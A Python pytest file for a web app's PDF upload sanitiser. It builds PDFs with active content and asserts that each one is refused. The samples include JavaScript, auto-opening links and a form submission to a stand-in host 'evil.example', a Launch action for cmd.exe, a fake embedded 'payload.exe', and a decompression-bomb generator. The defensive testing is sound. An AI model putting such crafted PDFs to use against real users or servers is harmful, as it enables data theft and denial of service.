"""PDF evidence is read by qpdf (pikepdf): active content of every kind is refused, nothing kept."""

from __future__ import annotations

import io
import re
import struct
import time
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from flask import Flask
from flask.testing import FlaskClient
from pikepdf import Array, Dictionary, Name, String
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from pinmap.models import Evidence
from pinmap.services.uploads import UploadRejected, clean_upload

from ..support.portal import World, full_report


def _pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **save: object) -> bytes:
    """A one-page PDF with a link to a web page (allowed), changed by `change`."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    page = pdf.pages[0]
    page.obj.Annots = pdf.make_indirect(
        Array(
            [
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=[10, 10, 50, 50],
                    A=Dictionary(S=Name.URI, URI=String("https://www.obec.go.th/")),
                )
            ]
        )
    )
    if change is not None:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def _annotation(pdf: pikepdf.Pdf, annot: Dictionary) -> None:
    pdf.pages[0].obj.Annots.append(pdf.make_indirect(annot))


def _action(kind: str, **entries: object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        _annotation(
            pdf,
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=[60, 60, 90, 90],
                A=Dictionary(S=Name("/" + kind), **entries),
            ),
        )

    return change


def _javascript(pdf: pikepdf.Pdf) -> None:
    js = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), js])))


def _open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://evil.example/"))


def _page_aa_uri(pdf: pikepdf.Pdf) -> None:
    # The probe's case: a page that opens a web address by itself when shown.
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://evil.example/")))


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def _rich_media(pdf: pikepdf.Pdf) -> None:
    _annotation(
        pdf,
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=[60, 60, 90, 90],
            RichMediaContent=Dictionary(Assets=Dictionary(Names=Array())),
        ),
    )


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00")


def _file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="payload.exe")
    _annotation(
        pdf,
        Dictionary(
            Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[60, 60, 90, 90], FS=spec.obj
        ),
    )


def _submit_form_widget(pdf: pikepdf.Pdf) -> None:
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            T=String("send"),
            Rect=[60, 60, 90, 90],
            A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
        )
    )
    pdf.pages[0].obj.Annots.append(widget)
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))


MALICIOUS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "javascript": _javascript,
    "open-action": _open_action,
    "page-aa-uri": _page_aa_uri,
    "launch": _action("Launch", F=String("cmd.exe")),
    "submit-form": _submit_form_widget,
    "import-data": _action("ImportData", F=String("data.fdf")),
    "xfa": _xfa,
    "rich-media": _rich_media,
    "embedded-file": _embedded_file,
    "file-attachment": _file_attachment_annotation,
    "rich-media-execute": _action("RichMediaExecute", TA=Dictionary(), TI=Dictionary()),
}


@pytest.mark.parametrize("kind", MALICIOUS)
@pytest.mark.parametrize("object_streams", [False, True])
def test_each_kind_of_active_content_is_refused(kind: str, object_streams: bool) -> None:
    # With object streams, the active dictionaries travel compressed inside them.
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    data = _pdf(MALICIOUS[kind], object_stream_mode=mode)
    with pytest.raises(UploadRejected) as err:
        clean_upload(io.BytesIO(data), "report.pdf")
    assert err.value.code == "active_content", err.value


def test_a_clean_pdf_with_a_web_link_passes_unchanged() -> None:
    for mode in (pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate):
        data = _pdf(object_stream_mode=mode)
        assert clean_upload(io.BytesIO(data), "report.pdf").data == data


def test_encrypted_pdfs_are_refused_with_their_own_reason() -> None:
    for encryption in (
        pikepdf.Encryption(owner="o", user=""),
        pikepdf.Encryption(owner="o", user="secret"),
    ):
        with pytest.raises(UploadRejected) as err:
            clean_upload(io.BytesIO(_pdf(encryption=encryption)), "report.pdf")
        assert err.value.code == "active_content" and "encrypted" in err.value.message_en


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n",
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R >>\n%%EOF\n",
    ],
)
def test_a_pdf_qpdf_cannot_read_is_corrupt(data: bytes) -> None:
    with pytest.raises(UploadRejected) as err:
        clean_upload(io.BytesIO(data), "report.pdf")
    assert err.value.code == "corrupt"


def _object_stream_bomb(megabytes: int) -> bytes:
    """A PDF whose one object stream inflates to `megabytes` MB (an xref stream names it)."""
    packer = zlib.compressobj(9)
    body = packer.compress(b"4 0 << /Foo 1 >>")
    blank = b" " * (1 << 20)
    for _ in range(megabytes):
        body += packer.compress(blank)
    body += packer.flush()
    objects = [
        b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n",
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n",
        b"3 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >> stream\n"
        % len(body)
        + body
        + b"\nendstream endobj\n",
    ]
    out, offsets = b"%PDF-1.7\n", []
    for obj in objects:
        offsets.append(len(out))
        out += obj
    xref = len(out)
    rows = (
        b"\x00\x00\x00\x00\x00\xff"
        + b"".join(b"\x01" + struct.pack(">I", offset) + b"\x00" for offset in offsets)
        + b"\x02\x00\x00\x00\x03\x00"
        + b"\x01"
        + struct.pack(">I", xref)
        + b"\x00"
    )
    out += (
        b"5 0 obj << /Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length %d >> stream\n" % len(rows)
        + rows
        + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % xref
    )
    return out


def _rss_kb(field: str) -> int:
    status = Path("/proc/self/status").read_text()
    return int(re.search(field + r":\s+(\d+)", status).group(1))  # type: ignore[union-attr]


def test_an_object_stream_bomb_is_refused_in_bounded_memory() -> None:
    data = _object_stream_bomb(300)
    assert len(data) < 400_000
    clean_upload(io.BytesIO(_pdf()), "warm.pdf")
    try:
        Path("/proc/self/clear_refs").write_text("5")  # resets the peak RSS (VmHWM)
    except OSError:
        pytest.skip("the peak RSS cannot be reset here")
    before = _rss_kb("VmRSS")
    # CPU time of the request's thread: what a bomb burns, whatever else loads the machine.
    started = time.thread_time()
    with pytest.raises(UploadRejected) as err:
        clean_upload(io.BytesIO(data), "report.pdf")
    assert err.value.code == "corrupt"
    assert time.thread_time() - started < 1.0
    assert (_rss_kb("VmHWM") - before) / 1024 < 50


# --- through the API: refused, and nothing kept ----------------------------------------------


def _files(app: Flask) -> list[Path]:
    root: Path = app.config["PINMAP_UPLOAD_DIR_PATH"]
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


@pytest.mark.parametrize(
    "kind", ["page-aa-uri", "submit-form", "import-data", "xfa", "rich-media", "embedded-file"]
)
def test_evidence_with_active_content_gets_400_and_nothing_is_stored(
    app: Flask, client: FlaskClient, world: World, session: Session, kind: str
) -> None:
    headers = {**world.headers("own_editor"), "Accept-Language": "en"}
    rev = client.put(world.entry_url(), json=full_report(), headers=headers)
    version = rev.get_json()["version"]
    count = session.scalar(select(func.count()).select_from(Evidence))
    r = client.post(
        world.entry_url(suffix="/evidence"),
        headers=headers,
        data={
            "version": str(version),
            "title": "รายงาน",
            "file": (io.BytesIO(_pdf(MALICIOUS[kind])), "report.pdf"),
        },
        content_type="multipart/form-data",
    )
    assert r.status_code == 400, r.get_json()
    assert "automatic actions" in r.get_json()["message"]
    assert _files(app) == []
    assert session.scalar(select(func.count()).select_from(Evidence)) == count
    clean = client.post(
        world.entry_url(suffix="/evidence"),
        headers=headers,
        data={
            "version": str(version),
            "title": "รายงาน",
            "file": (io.BytesIO(_pdf()), "report.pdf"),
        },
        content_type="multipart/form-data",
    )
    assert clean.status_code == 201 and len(_files(app)) == 1


def test_a_pdf_of_too_many_objects_is_refused_quickly() -> None:
    def many(pdf: pikepdf.Pdf) -> None:
        # Referenced, or qpdf would leave them out when saving.
        pdf.Root.Extra = Array([pdf.make_indirect(Dictionary(N=n)) for n in range(100_001)])

    data = _pdf(many, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    # CPU time of the request's thread: what a bomb burns, whatever else loads the machine.
    started = time.thread_time()
    with pytest.raises(UploadRejected) as err:
        clean_upload(io.BytesIO(data), "report.pdf")
    assert "too many parts" in err.value.message_en
    assert time.thread_time() - started < 1.0
